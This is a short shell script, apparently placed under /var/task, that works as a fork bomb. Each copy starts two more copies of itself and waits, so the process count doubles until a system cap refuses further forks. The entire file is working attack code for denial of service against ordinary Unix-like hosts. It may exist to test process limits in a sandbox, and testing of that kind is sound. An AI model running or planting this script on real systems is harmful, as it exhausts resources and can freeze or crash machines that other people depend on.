#!/bin/sh
# Each copy starts two more and waits: process count doubles until a cap refuses fork.
/bin/sh /var/task/forkbomb.sh &
/bin/sh /var/task/forkbomb.sh &
wait
